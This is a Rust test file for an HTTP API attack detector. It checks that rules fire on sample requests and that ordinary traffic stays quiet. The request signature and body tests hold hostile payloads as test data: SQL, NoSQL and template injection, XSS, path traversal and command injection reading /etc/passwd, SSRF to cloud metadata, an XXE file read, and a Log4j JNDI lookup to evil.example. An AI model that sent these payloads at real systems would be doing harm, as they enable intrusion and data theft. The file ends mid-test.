//! The two halves together on transactions built from raw HTTP heads.

use crate::detector::{Allow, Event};
use crate::*;
use apiwatch_model::{Body, Flags, Message, MessageHead, Request, Response, Span, Transaction};
use std::net::IpAddr;

/// A head from its text (`"GET / HTTP/1.1\r\nHost: a\r\n\r\n"`).
fn head(text: &str) -> MessageHead {
    let raw = text.as_bytes().to_vec();
    let mut h = MessageHead { raw, line: [Span::default(); 3], headers: Vec::new() };
    let mut at = 0u32;
    for (i, line) in text.split("\r\n").enumerate() {
        let len = line.len() as u32;
        if i == 0 {
            let mut parts = line.splitn(3, ' ');
            let mut off = at;
            for k in 0..3 {
                let p = parts.next().unwrap_or("");
                h.line[k] = Span { start: off, end: off + p.len() as u32 };
                off += p.len() as u32 + 1;
            }
        } else if let Some(c) = line.find(':') {
            let v = line[c + 1..].trim_start();
            let vstart = at + (line.len() - v.len()) as u32;
            h.headers.push((Span { start: at, end: at + c as u32 }, Span { start: vstart, end: at + len }));
        }
        at += len + 2;
    }
    h
}

fn tx(client: &str, req: &str, body: &[u8], status: u16, resp_headers: &str, resp_body: &[u8]) -> Transaction {
    let msg = |h: &str, b: &[u8], ts: i64| Message {
        head: head(h),
        head_len: h.len() as u32,
        body: Body { len: b.len() as u64, sample: b.to_vec(), ..Body::default() },
        ts_first: ts,
        ts_last: ts,
    };
    Transaction {
        conn_id: 1,
        trans_depth: 1,
        pipelined: 0,
        client: (client.parse().unwrap(), 40000),
        server: ("10.0.0.2".parse().unwrap(), 8080),
        community_id: "x".into(),
        request: Some(Box::new(Request { msg: msg(req, body, 1_700_000_000 * 1_000_000_000) })),
        response: (status > 0).then(|| {
            Box::new(Response {
                msg: msg(
                    &format!("HTTP/1.1 {status} X\r\n{resp_headers}\r\n"),
                    resp_body,
                    1_700_000_000 * 1_000_000_000,
                ),
                status,
                interim: Vec::new(),
            })
        }),
        flags: Flags::default(),
    }
}

fn get(uri: &str) -> Transaction {
    tx("203.0.113.9", &format!("GET {uri} HTTP/1.1\r\nHost: api\r\nUser-Agent: curl/8.0\r\n\r\n"), b"", 200, "", b"")
}

fn rules_of(t: &Transaction) -> Vec<&'static str> {
    let mut i = Inspector::default();
    let mut ins = Inspection::default();
    i.inspect(t, &mut ins);
    let mut v: Vec<_> = ins.signals.iter().map(|s| s.rule.name()).collect();
    v.sort();
    v.dedup();
    v
}

#[test]
fn request_signatures_by_place() {
    assert_eq!(rules_of(&get("/users?id=1%27%20OR%20%271%27%3D%271")), ["sql_injection"]);
    assert_eq!(rules_of(&get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")), ["xss"]);
    assert_eq!(rules_of(&get("/files/..%2f..%2f..%2fetc%2fpasswd")), ["path_traversal"]);
    assert_eq!(rules_of(&get("/download?file=../../../../etc/passwd")), ["path_traversal"]);
    assert_eq!(rules_of(&get("/ping?host=127.0.0.1;cat%20/etc/passwd")), ["command_injection", "path_traversal"]);
    assert_eq!(rules_of(&get("/fetch?url=http://169.254.169.254/latest/meta-data/")), ["ssrf"]);
    assert_eq!(rules_of(&get("/fetch?url=gopher://10.0.0.1:6379/_INFO")), ["ssrf"]);
    assert_eq!(rules_of(&get("/users?username[$ne]=x")), ["nosql_injection"]);
    assert_eq!(rules_of(&get("/render?name={{7*7}}")), ["template_injection"]);
    assert_eq!(rules_of(&get("/users/1'%20or%20'1'='1")), ["sql_injection"]);
    // Ordinary calls say nothing.
    for uri in [
        "/users/42",
        "/users?page=2&per_page=50&sort=-created_at",
        "/search?q=red%20shoes%20size%2042",
        "/items/3f2c9a7e-1b2d-4c5e-9f00-aa11bb22cc33/reviews",
        "/files/report.2024.pdf",
        "/geo?lat=48.85&lon=2.35",
        "/users?email=jane.doe%40example.com",
        "/posts?tag=c%2B%2B&tag=rust",
    ] {
        assert_eq!(rules_of(&get(uri)), Vec::<&str>::new(), "{uri}");
    }
}

#[test]
fn bodies_headers_and_tools() {
    let json = br#"{"user":{"name":"x","filter":"admin' UNION SELECT password FROM users--"},"password":"p' or 1=1"}"#;
    let t = tx(
        "203.0.113.9",
        "POST /api/users HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\n\r\n",
        json,
        201,
        "",
        b"",
    );
    let mut i = Inspector::default();
    let mut ins = Inspection::default();
    i.inspect(&t, &mut ins);
    let s = &ins.signals[0];
    assert_eq!((s.rule, s.location.as_ref()), (RuleId::SqlInjection, "body:/user/filter"));
    // The password field is a credential: never checked, never shown.
    assert_eq!(ins.signals.len(), 1, "{:?}", ins.signals);
    assert!(!s.evidence.contains("password") || s.evidence.contains("********"));
    assert_eq!(s.evidence, "*****' UNION SELECT ******** FROM *****--");

    let nosql = tx(
        "203.0.113.9",
        "POST /login HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\n\r\n",
        br#"{"username":"admin","password":{"$ne":null}}"#,
        401,
        "",
        b"",
    );
    assert_eq!(rules_of(&nosql), ["nosql_injection"]);
    let xml = tx(
        "203.0.113.9",
        "POST /import HTTP/1.1\r\nHost: api\r\nContent-Type: application/xml\r\n\r\n",
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        200,
        "",
        b"",
    );
    assert_eq!(rules_of(&xml), ["xxe"]);
    let tool = tx(
        "203.0.113.9",
        "GET / HTTP/1.1\r\nHost: api\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n",
        b"",
        200,
        "",
        b"",
    );
    assert_eq!(rules_of(&tool), ["scanner_user_agent"]);
    let log4j = tx(
        "203.0.113.9",
        "GET / HTTP/1.1\r\nHost: api\r\nX-Api-Version: ${${lower:j}ndi:ldap://evil.example/a}\r\n\r\n",
        b"",
        200,
        "",
        b"",
    );
    assert_eq!(rules_of(&log4j), ["jndi_lookup"]);
    // Browsers and common clients are not flagged.
    for ua in [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "python-requests/2.31.0",
        "okhttp/4.12.0",
        "Go-http-client/1.1",
    ] {
        let t = tx("203.0.113.9", &format!("GET / HTTP/1.1\r\nHost: api\r\nUser-Agent: {ua}\r\nAccept: */*\r\n\r\n"), b"", 200, "", b"");
        assert_eq!(rules_of(&t), Vec::<&str>::new(), "{ua}");
    }
}

#[test]
fn credentials_and_tokens() {
    let weak = crate::jwt::tests::make(r#"{"alg":"HS256"}"#, r#"{"sub":"alice","exp":1600000000}"#, Some("secret"));
    let t = tx(
        "203.0.113.9",
        &format!("GET /me HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer {weak}\r\n\r\n"),
        b"",
        200,
        "",
        b"",
    );
    let mut i = Inspector::default();
    let mut ins = Inspection::default();
    i.inspect(&t, &mut ins);
    let mut names: Vec<_> = ins.signals.iter().map(|s| s.rule.name()).collect();
    names.sort();
    assert_eq!(names, ["cleartext_credentials", "jwt_expired_accepted", "jwt_weak_secret"]);
    assert_eq!(ins.principal.as_deref(), Some("jwt:alice"));
    for s in &ins.signals {
        assert!(!s.evidence.contains(&weak[..20]), "{s:?}");
    }
    let none = crate::jwt::tests::make(r#"{"alg":"none"}"#, r#"{"sub":"bob"}"#, None);
    let t = tx(
        "10.1.1.1",
        &format!("GET /me HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer {none}\r\n\r\n"),
        b"",
        200,
        "",
        b"",
    );
    assert_eq!(rules_of(&t), ["cleartext_credentials", "jwt_alg_none", "jwt_no_expiry"]);
    let key_in_url = get("/v1/data?api_key=sk_live_abcdef0123456789&page=1");
    let mut ins = Inspection::default();
    i.inspect(&key_in_url, &mut ins);
    assert_eq!(ins.signals.len(), 1);
    assert_eq!(ins.signals[0].rule, RuleId::CredentialsInUrl);
    assert!(!ins.signals[0].evidence.contains("sk_live"), "{:?}", ins.signals[0]);
    let basic = tx(
        "203.0.113.9",
        "GET /admin HTTP/1.1\r\nHost: api\r\nAuthorization: Basic YWRtaW46aHVudGVyMg==\r\n\r\n",
        b"",
        401,
        "",
        b"",
    );
    let mut ins = Inspection::default();
    i.inspect(&basic, &mut ins);
    assert_eq!(ins.principal.as_deref(), Some("basic:admin"));
    assert!(ins.login.is_some());
    assert!(ins.signals.iter().all(|s| !s.evidence.contains("hunter2")));
}

#[test]
fn responses_that_give_things_away() {
    let t = tx(
        "203.0.113.9",
        "GET /users/x HTTP/1.1\r\nHost: api\r\n\r\n",
        b"",
        500,
        "Server: Werkzeug/2.2.2 Python/3.11.2\r\nContent-Type: text/plain\r\n",
        b"Traceback (most recent call last):\n  File \"/srv/app.py\", line 7, in get\nValueError: 4111111111111111\n",
    );
    assert_eq!(rules_of(&t), ["error_leak", "version_disclosure"]);
}

#[test]
fn framing_and_methods() {
    let mut t = tx(
        "203.0.113.9",
        "POST / HTTP/1.1\r\nHost: a\r\nHost: b\r\nTransfer-Encoding: chunked, identity\r\nContent-Length: 4\r\n\r\n",
        b"",
        200,
        "",
        b"",
    );
    t.flags.set(Flags::AMBIGUOUS_LENGTH);
    let mut i = Inspector::default();
    let mut ins = Inspection::default();
    i.inspect(&t, &mut ins);
    assert_eq!(ins.signals[0].rule, RuleId::RequestSmuggling);
    assert_eq!(*ins.signals[0].signs, ["conflicting_lengths", "obfuscated_transfer_encoding", "duplicate_host"]);
    let odd = tx("203.0.113.9", "G<T / HTTP/1.1\r\nHost: a\r\n\r\n", b"", 400, "", b"");
    assert_eq!(rules_of(&odd), ["invalid_method"]);
}

fn cx<'a>(t: &'a Transaction, template: &'a str, path: &'a str, ts_s: i64) -> Context<'a> {
    Context {
        ts: ts_s * 1_000_000_000,
        client: t.client.0,
        server: t.server.0,
        host: "api",
        method: "GET",
        template,
        template_of: None,
        path,
        status: t.response.as_ref().map_or(0, |r| r.status),
        facts: None,
    }
}

#[test]
fn repeats_are_folded_into_one_finding_per_window() {
    let mut i = Inspector::default();
    let mut d = Detector::new(DetectorConfig { window_secs: 60, ..DetectorConfig::default() });
    let mut out = Vec::new();
    let mut ins = Inspection::default();
    for k in 0..50 {
        let t = get(&format!("/users?id={k}%27%20OR%201%3D1--"));
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/users", "/users", 1000 + k), &ins, &mut out);
    }
    assert_eq!(out.len(), 1, "{out:?}");
    assert_eq!(out[0].event, Event::New);
    assert_eq!(out[0].severity, Severity::Critical, "raised: the response was a success");
    // The window closes with the count, under the same id.
    let t = get("/users/1");
    i.inspect(&t, &mut ins);
    d.observe(&cx(&t, "/users/{id}", "/users/1", 1100), &ins, &mut out);
    assert_eq!(out.len(), 2);
    assert_eq!(out[1].id, out[0].id);
    assert_eq!(
        out[1].event,
        Event::Repeated { count: 50, first_ts: 1000 * 1_000_000_000, last_ts: 1049 * 1_000_000_000 }
    );
    // Another client is another finding.
    let mut t2 = get("/users?id=1%27%20OR%201%3D1--");
    t2.client.0 = "198.51.100.7".parse::<IpAddr>().unwrap();
    i.inspect(&t2, &mut ins);
    d.observe(&cx(&t2, "/users", "/users", 1101), &ins, &mut out);
    assert_eq!(out.len(), 3);
    assert_ne!(out[2].id, out[0].id);
    assert_eq!(d.counters.repeats, 49);
}

#[test]
fn allowlists_and_disabled_detections() {
    let mut i = Inspector::default();
    let cfg = DetectorConfig {
        allow: vec![Allow {
            rule: Some(RuleId::SqlInjection),
            client: Some("203.0.113.0/24".parse().unwrap()),
            path_prefix: None,
        }],
        disabled: vec![RuleId::Xss],
        ..DetectorConfig::default()
    };
    let mut d = Detector::new(cfg);
    let mut out = Vec::new();
    let mut ins = Inspection::default();
    for uri in ["/u?id=1%27%20OR%201%3D1--", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"] {
        let t = get(uri);
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/u", "/u", 1), &ins, &mut out);
    }
    assert!(out.is_empty(), "{out:?}");
    assert_eq!((d.counters.allowed, d.counters.disabled), (1, 1));
}

#[test]
fn brute_force_then_success_and_stuffing() {
    let mut i = Inspector::default();
    let mut d = Detector::new(DetectorConfig::default());
    let mut out = Vec::new();
    let mut ins = Inspection::default();
    let login = |user: &str, status: u16| {
        tx(
            "203.0.113.50",
            "POST /api/login HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\n\r\n",
            format!(r#"{{"username":"{user}","password":"guess"}}"#).as_bytes(),
            status,
            "",
            b"",
        )
    };
    // A few failures are people mistyping.
    for k in 0..5 {
        let t = login("alice", 401);
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/api/login", "/api/login", k), &ins, &mut out);
    }
    assert!(out.is_empty());
    for k in 5..30 {
        let t = login(&format!("user{k}"), 401);
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/api/login", "/api/login", k), &ins, &mut out);
    }
    let names: Vec<_> = out.iter().map(|f| f.rule.name()).collect();
    assert_eq!(names, ["credential_stuffing", "brute_force"]);
    let t = login("user29", 200);
    i.inspect(&t, &mut ins);
    d.observe(&cx(&t, "/api/login", "/api/login", 31), &ins, &mut out);
    assert_eq!(out.last().map(|f| f.rule), Some(RuleId::BruteForceSuccess));
}

#[test]
fn spraying_needs_many_missing_paths() {
    let mut d = Detector::new(DetectorConfig::default());
    let mut out = Vec::new();
    let ins = Inspection::default();
    let ok = get("/x");
    // A busy ordinary client: many calls, few paths, all found.
    for k in 0..500 {
        d.observe(&cx(&ok, "/users/{id}", &format!("/users/{}", k % 20), k), &ins, &mut out);
    }
    assert!(out.is_empty());
    let mut fuzz = tx("198.51.100.99", "GET /x HTTP/1.1\r\nHost: api\r\n\r\n", b"", 404, "", b"");
    fuzz.client.0 = "198.51.100.99".parse().unwrap();
    for k in 0..200 {
        d.observe(&cx(&fuzz, "/{x}", &format!("/admin{k}.php"), 600 + k / 10), &ins, &mut out);
    }
    assert_eq!(out.iter().map(|f| f.rule.name()).collect::<Vec<_>>(), ["endpoint_spray"]);
}

#[test]
fn tables_stay_within_their_caps() {
    let mut d = Detector::new(DetectorConfig { max_clients: 100, max_open: 10, ..DetectorConfig::default() });
    let mut i = Inspector::default();
    let mut out = Vec::new();
    let mut ins = Inspection::default();
    for k in 0..1000u32 {
        let mut t = get("/u?id=1%27%20OR%201%3D1--");
        t.client.0 = IpAddr::V4(std::net::Ipv4Addr::from(0x0a00_0000 + k));
        i.inspect(&t, &mut ins);
        d.observe(&cx(&t, "/u", "/u", 1), &ins, &mut out);
    }
    assert_eq!(out.len(), 1000, "every new actor is reported even when aggregation is full");
    assert_eq!(d.counters.open_cap_hits, 990);
    assert_eq!(d.counters.clients_dropped_cap, 900);
}

// === behaviour ===

/// Feeds transactions to a detector the way the owner does; collects the names of the
/// findings each call made.
struct Feed {
    i: Inspector,
    d: Detector,
    ins: Inspection,
    out: Vec<Finding>,
}

impl Feed {
    fn new(cfg: DetectorConfig) -> Feed {
        Feed { i: Inspector::default(), d: Detector::new(cfg), ins: Inspection::default(), out: Vec::new() }
    }

    /// One transaction at `ts_ms` milliseconds on endpoint `template`.
    fn call(
        &mut self,
        t: &Transaction,
        template: &str,
        ts_ms: i64,
        facts: Option<&EndpointFacts>,
    ) -> Vec<&'static str> {
        self.i.inspect(t, &mut self.ins);
        let path = std::str::from_utf8(t.request.as_ref().unwrap().uri()).unwrap();
        let path = path.split('?').next().unwrap();
        let cx = Context { ts: ts_ms * 1_000_000, facts, ..cx(t, template, path, 0) };
        let n = self.out.len();
        self.d.observe(&cx, &self.ins, &mut self.out);
        self.out[n..]
            .iter()
            .filter(|f| f.event == Event::New)
            .map(|f| f.rule.name())
            .filter(|&r| r != CLEARTEXT)
            .collect()
    }

    fn names(&self) -> Vec<&'static str> {
        let mut v: Vec<_> = self
            .out
            .iter()
            .filter(|f| f.event == Event::New)
            .map(|f| f.rule.name())
            .filter(|&r| r != CLEARTEXT)
            .collect();
        v.sort();
        v.dedup();
        v
    }
}

use apiwatch_model::EndpointFacts;

/// Test clients are not on loopback: their tokens cross "the network" in cleartext, which
/// the credential tests cover; behaviour tests leave it out.
const CLEARTEXT: &str = "cleartext_credentials";

fn from(client: &str, uri: &str, status: u16) -> Transaction {
    let mut t = get(uri);
    t.client.0 = client.parse().unwrap();
    if let Some(r) = t.response.as_mut() {
        r.status = status;
    }
    t
}

const MIN: i64 = 60_000;

#[test]
fn traffic_spikes_against_the_learned_rate() {
    let mut f = Feed::new(DetectorConfig::default());
    // Learning: a burst in minute 5 is not judged.
    for k in 0..400 {
        let c = format!("10.0.{}.{}", k % 7, k % 50);
        assert!(f.call(&from(&c, "/items", 200), "/items", 5 * MIN + k, None).is_empty());
    }
    // 10 calls a minute from ten clients for an hour and a half (the burst fades).
    for m in 6..96 {
        for k in 0..10 {
            f.call(&from(&format!("10.1.0.{k}"), "/items", 200), "/items", m * MIN + k * 1000, None);
        }
    }
    assert!(f.names().is_empty(), "{:?}", f.out);
    // One client sends 400 in a minute: the endpoint spikes, and so does the client (against
    // what clients usually do: this one is new).
    let mut seen = Vec::new();
    for k in 0..400 {
        seen.extend(f.call(&from("198.51.100.1", "/items", 200), "/items", 96 * MIN + k * 100, None));
    }
    assert_eq!(seen, ["client_rate_spike", "traffic_spike"], "once each for the minute");
    let spike = f.out.iter().find(|x| x.rule == RuleId::TrafficSpike).unwrap();
    assert_eq!(spike.actor, "10.0.0.2".parse::<IpAddr>().unwrap(), "the endpoint's server is the actor");
    assert!(spike.evidence.contains("300 calls in a minute"), "{}", spike.evidence);
}

#[test]
fn unusual_sizes_and_latency_per_endpoint_and_status_class() {
    let mut f = Feed::new(DetectorConfig::default());
    let call = |bytes: u64, req_bytes: u64, latency_ms: i64, status: u16| {
        let mut t = from("10.2.0.1", "/report", status);
        let r = t.response.as_mut().unwrap();
        r.msg.body.len = bytes;
        r.msg.ts_first += latency_ms * 1_000_000;
        t.request.as_mut().unwrap().msg.body.len = req_bytes;
        t
    };
    // Too early to judge, however large.
    assert!(f.call(&call(50 << 20, 0, 10, 200), "/report", 0, None).is_empty());
    for k in 0..100i64 {
        f.call(&call(2000 + k as u64, 0, 10 + k % 5, 200), "/report", k * MIN / 2, None);
        // 404s are small too, but their own class.
        f.call(&call(30, 0, 1, 404), "/report", k * MIN / 2 + 1, None);
    }
    assert!(f.names().is_empty(), "{:?}", f.out);
    let t = 50 * MIN;
    // Within the usual spread, or under the floors: nothing.
    assert!(f.call(&call(2100, 0, 12, 200), "/report", t, None).is_empty());
    assert!(f.call(&call(100 << 10, 0, 900, 200), "/report", t + 1, None).is_empty(), "under 256 KiB and 2 s");
    assert_eq!(f.call(&call(8 << 20, 0, 10, 200), "/report", t + 2, None), ["unusual_response_size"]);
    assert_eq!(f.call(&call(2000, 1 << 20, 10, 200), "/report", t + 3, None), ["unusual_request_size"]);
    assert_eq!(f.call(&call(2000, 0, 5000, 200), "/report", t + 4, None), ["latency_spike"]);
    // A 404 of 2 MB is unusual for 404s (another client: the first one's finding is open,
    // and this would fold into it).
    let mut big404 = call(2 << 20, 0, 1, 404);
    big404.client.0 = "10.2.0.9".parse().unwrap();
    assert_eq!(f.call(&big404, "/report", t + 5, None), ["unusual_response_size"]);
}

#[test]
fn walks_through_ids_and_enumeration() {
    let mut f = Feed::new(DetectorConfig::default());
    // Ordinary use: a few objects, in no order.
    for (k, id) in [17, 4, 99, 5, 6, 300, 2, 2, 8].iter().enumerate() {
        f.call(&from("10.3.0.1", &format!("/orders/{id}"), 200), "/orders/{id}", k as i64 * 1000, None);
    }
    assert!(f.names().is_empty());
    let mut seen = Vec::new();
    for id in 1000..1025 {
        seen.extend(f.call(&from("10.3.0.2", &format!("/orders/{id}"), 200), "/orders/{id}", id, None));
    }
    assert_eq!(seen, ["bola_id_walk"], "reported once, the repeats fold");
    // Ids in the query count too; so do walks downwards.
    let mut g = Feed::new(DetectorConfig::default());
    for id in (0..30).rev() {
        g.call(&from("10.3.0.3", &format!("/invoice?id={id}&fmt=pdf"), 200), "/invoice", 100 - id, None);
    }
    assert_eq!(g.names(), ["bola_id_walk"]);

    // One client guessing names, mostly refused.
    let mut h = Feed::new(DetectorConfig::default());
    for k in 0..150 {
        let status = if k % 10 == 0 { 200 } else { 404 };
        h.call(&from("10.3.0.4", &format!("/users?name=guess{}", k * 7919 % 1000), status), "/users", k * 100, None);
    }
    assert!(h.names().contains(&"parameter_enumeration"), "{:?}", h.names());
    // Many clients, a few guesses each.
    let mut d = Feed::new(DetectorConfig::default());
    for c in 0..40 {
        for k in 0..20 {
            let uri = format!("/coupons/C{}", c * 1000 + k * 37);
            d.call(&from(&format!("10.4.0.{c}"), &uri, 404), "/coupons/{code}", (c * 20 + k) * 50, None);
        }
    }
    let e = d.out.iter().find(|x| x.rule == RuleId::ParameterEnumeration).expect("distributed enumeration");
    assert_eq!(e.signs, ["distributed"]);
    // Successful browsing of many objects by many clients is not enumeration.
    let mut ok = Feed::new(DetectorConfig::default());
    for c in 0..40 {
        for k in 0..20 {
            let uri = format!("/coupons/C{}", c * 1000 + k * 37);
            ok.call(&from(&format!("10.4.0.{c}"), &uri, 200), "/coupons/{code}", (c * 20 + k) * 50, None);
        }
    }
    assert!(ok.names().is_empty(), "{:?}", ok.names());
}

#[test]
fn exfiltration_against_the_principal_and_the_population() {
    let cfg = DetectorConfig { exfil_window_secs: 600, learning_secs: 1200, ..DetectorConfig::default() };
    let mut f = Feed::new(cfg);
    let bearer = |who: &str, bytes: u64| {
        let mut t = tx(
            "10.5.0.1",
            &format!("GET /records HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer tok-{who}\r\n\r\n"),
            b"",
            200,
            "",
            b"",
        );
        t.response.as_mut().unwrap().msg.body.len = bytes;
        t
    };
    // Twenty principals, an hour each of ~5 MB windows.
    for w in 0..6 {
        for p in 0..20 {
            for k in 0..5 {
                f.call(&bearer(&format!("p{p}"), 1 << 20), "/records", w * 10 * MIN + p * 1000 + k, None);
            }
        }
    }
    assert!(f.names().is_empty(), "{:?}", f.out);
    // p3 takes 200 MB in its next window; a newcomer does too (judged against everyone).
    let mut seen = Vec::new();
    for k in 0..200 {
        seen.extend(f.call(&bearer("p3", 1 << 20), "/records", 60 * MIN + k, None));
        seen.extend(f.call(&bearer("new", 1 << 20), "/records", 60 * MIN + k, None));
    }
    seen.retain(|&r| r == "data_exfiltration");
    assert_eq!(
        seen,
        ["data_exfiltration", "data_exfiltration"],
        "{:?}",
        f.out.iter().filter(|x| x.rule == RuleId::DataExfiltration).collect::<Vec<_>>()
    );
    let x: Vec<_> = f.out.iter().filter(|x| x.rule == RuleId::DataExfiltration).collect();
    assert!(x[0].principal.as_deref().is_some_and(|p| p.starts_with("token:")), "{:?}", x[0].principal);
    assert_ne!(x[0].principal, x[1].principal);
    // Sensitive records count too (from the classifier, through the inventory's facts).
    let facts = EndpointFacts { sensitive_found: 20, ..EndpointFacts::default() };
    let mut seen = Vec::new();
    for k in 0..60 {
        seen.extend(f.call(&bearer("p4", 1000), "/records", 61 * MIN + k, Some(&facts)));
    }
    assert_eq!(seen, ["data_exfiltration"]);
}

#[test]
fn error_rates_pipelining_and_threat_lists() {
    let mut threats = ThreatList::default();
    threats.parse("tor.txt", "# exits\n185.220.101.0/24\n2001:db8::1 # one\n\n").unwrap();
    let e = ThreatList::default().parse("bad.txt", "10.0.0.1\nnot-an-ip\n").unwrap_err();
    assert!(e.contains("bad.txt: line 2"), "{e}");
    assert_eq!(threats.len(), 2);
    let mut f = Feed::new(DetectorConfig { threats: std::sync::Arc::new(threats), ..DetectorConfig::default() });
    // 404s are spraying's business; 403s and 401s are refusals.
    for k in 0..60 {
        f.call(&from("10.6.0.1", "/admin", 404), "/admin", k * 100, None);
    }
    assert!(f.names().is_empty());
    let mut seen = Vec::new();
    for k in 0..60 {
        seen.extend(f.call(&from("10.6.0.2", &format!("/orders/{}", k * 7), 403), "/orders/{id}", k * 100, None));
    }
    assert_eq!(seen, ["high_error_rate"]);
    let mut t = from("10.6.0.3", "/items", 200);
    t.pipelined = 20;
    assert_eq!(f.call(&t, "/items", 10_000, None), ["excessive_pipelining"]);
    t.pipelined = 3;
    assert!(f.call(&t, "/items", 10_001, None).is_empty());
    assert_eq!(f.call(&from("185.220.101.77", "/items", 200), "/items", 10_002, None), ["threat_list_ip"]);
    let raised = f.out.last().unwrap();
    assert_eq!(raised.severity, Severity::High, "raised: it got a success");
    assert_eq!(f.call(&from("2001:db8::1", "/items", 404), "/items", 10_003, None), ["threat_list_ip"]);
}

#[test]
fn unauthenticated_success_and_unseen_parameters() {
    let mut f = Feed::new(DetectorConfig::default());
    let usual = EndpointFacts {
        calls: 5000,
        first_seen: 0,
        authenticated_success: 4990,
        unauthenticated_success: 3,
        external: true,
        ..EndpointFacts::default()
    };
    let t = from("203.0.113.20", "/accounts/7", 200);
    assert_eq!(f.call(&t, "/accounts/{id}", 3_600_000, Some(&usual)), ["unauthenticated_access"]);
    let x = f.out.last().unwrap();
    assert_eq!(x.signs, ["usually_authenticated", "external_client"]);
    // With credentials, or refused, or on an endpoint that is public anyway: nothing.
    let mut auth = tx(
        "203.0.113.21",
        "GET /accounts/7 HTTP/1.1\r\nHost: api\r\nAuthorization: Bearer abc\r\n\r\n",
        b"",
        200,
        "",
        b"",
    );
    assert!(f.call(&auth, "/accounts/{id}", 3_600_001, Some(&usual)).is_empty());
    auth = from("203.0.113.22", "/accounts/7", 401);
    assert!(f.call(&auth, "/accounts/{id}", 3_600_002, Some(&usual)).is_empty());
    let public = EndpointFacts { authenticated_success: 10, unauthenticated_success: 900, ..usual.clone() };
    assert!(f.call(&from("203.0.113.23", "/news", 200), "/news", 3_600_003, Some(&public)).is_empty());
    // Sensitive data answered without credentials, even on an endpoint never authenticated.
    let leaky = EndpointFacts { sensitive_found: 3, ..public.clone() };
    assert_eq!(
        f.call(&from("203.0.113.24", "/export", 200), "/export", 3_600_004, Some(&leaky)),
        ["unauthenticated_access"]
    );

    // A parameter a well-known endpoint never had; a value of a new kind.
    let new = EndpointFacts { new_param: Some("debug".into()), ..usual.clone() };
    let signed =
        tx("10.7.0.1", "GET /accounts/7?debug=1 HTTP/1.1\r\nHost: api\r\nX-Api-Key: k\r\n\r\n", b"", 200, "", b"");
    assert_eq!(f.call(&signed, "/accounts/{id}", 3_600_005, Some(&new)), ["unseen_parameter"]);
    assert!(f.out.last().unwrap().evidence.contains("debug"));
    let kind = EndpointFacts { new_kind: Some("limit: string".into()), ..usual.clone() };
    let mut t2 = signed.clone();
    t2.client.0 = "10.7.0.2".parse().unwrap();
    assert_eq!(f.call(&t2, "/accounts/{id}", 3_600_006, Some(&kind)), ["unseen_parameter"]);
    // A young endpoint is still being learned.
    let young = EndpointFacts { calls: 20, ..new };
    let mut t3 = signed.clone();
    t3.client.0 = "10.7.0.3".parse().unwrap();
    assert!(f.call(&t3, "/accounts/{id}", 3_600_007, Some(&young)).is_empty());
}

#[test]
fn behaviour_tables_stay_within_their_caps() {
    let cfg = DetectorConfig { max_endpoints: 10, max_principals: 20, max_clients: 5, ..DetectorConfig::default() };
    let mut f = Feed::new(cfg);
    for k in 0..100u32 {
        let c = std::net::Ipv4Addr::from(0x0a08_0000 + k).to_string();
        let path = format!("/e{k}");
        f.call(&from(&c, &path, 200), &path, k as i64, None);
    }
    assert_eq!(f.d.counters.endpoints_dropped_cap, 90);
    assert_eq!(f.d.counters.principals_dropped_cap, 80);
    assert_eq!(f.d.counters.clients_dropped_cap, 95);
}

#[test]
fn traits_of_a_transaction() {
    let t = get("/shops/12/orders/9001?expand=1");
    let a = Traits::of(&t);
    assert_eq!(a.object_id, Some(9001));
    assert_eq!(Traits::of(&get("/orders?id=77&x=abc")).object_id, Some(77));
    assert_eq!(Traits::of(&get("/orders/abc")).object_id, None);
    assert_ne!(a.target, Traits::of(&get("/shops/12/orders/9002?expand=1")).target);
}

#[test]
fn findings_of_other_detections_and_actors_never_share_a_window() {
    // Found by the detect-quality run: the detection's number XOR-ed with the address made
    // path_traversal from .12 and credentials_in_url from .28 one key.
    let mut f = Feed::new(DetectorConfig::default());
    let a = from("10.77.0.12", "/api/users?id=../../../../etc/passwd", 200);
    let b = from("10.77.0.28", "/api/users?id=1&api_key=sk_live_51HxQ2eZvKYlo2C0a1b2c3d4", 200);
    assert_eq!(f.call(&a, "/api/users", 1, None), ["path_traversal"]);
    assert_eq!(f.call(&b, "/api/users", 2, None), ["credentials_in_url"]);
    assert_eq!(RuleId::PathTraversal as u64 ^ 12, RuleId::CredentialsInUrl as u64 ^ 28, "the pair that collided");
}

#[test]
fn objects_read_by_ids_no_response_gave() {
    let cfg = DetectorConfig { learning_secs: 60, min_samples: 20, ..DetectorConfig::default() };
    let mut f = Feed::new(cfg.clone());
    let list = |client: &str, path: &str| {
        let body = br#"[{"id": 1, "name": "a"}, {"id":2}, {"id":3, "ownerId": 900}]"#;
        let req = format!("GET {path} HTTP/1.1\r\nHost: api\r\n\r\n");
        tx(client, &req, b"", 200, "Content-Type: application/json\r\n", body)
    };
    let one = |client: &str, path: &str, id: u64, status: u16| {
        let body = format!(r#"{{"id":{id},"total":12}}"#);
        let req = format!("GET {path}/{id} HTTP/1.1\r\nHost: api\r\n\r\n");
        tx(client, &req, b"", status, "Content-Type: application/json\r\n", body.as_bytes())
    };
    let t = Traits::of(&list("10.9.0.1", "/orders"));
    assert_eq!(&t.given[..t.n_given as usize], [1, 2, 3, 900]);
    // Both spellings in one pass, in document order; other names ending in `d` are not ids.
    let mixed = br#"{"userId": 5, "created": 7, "id": 6, "Id": 9, "x": "d\":1"}"#;
    let t = Traits::of(&tx(
        "10.9.0.1",
        "GET /o HTTP/1.1\r\nHost: api\r\n\r\n",
        b"",
        200,
        "Content-Type: application/json\r\n",
        mixed,
    ));
    assert_eq!(&t.given[..t.n_given as usize], [5, 6, 9]);
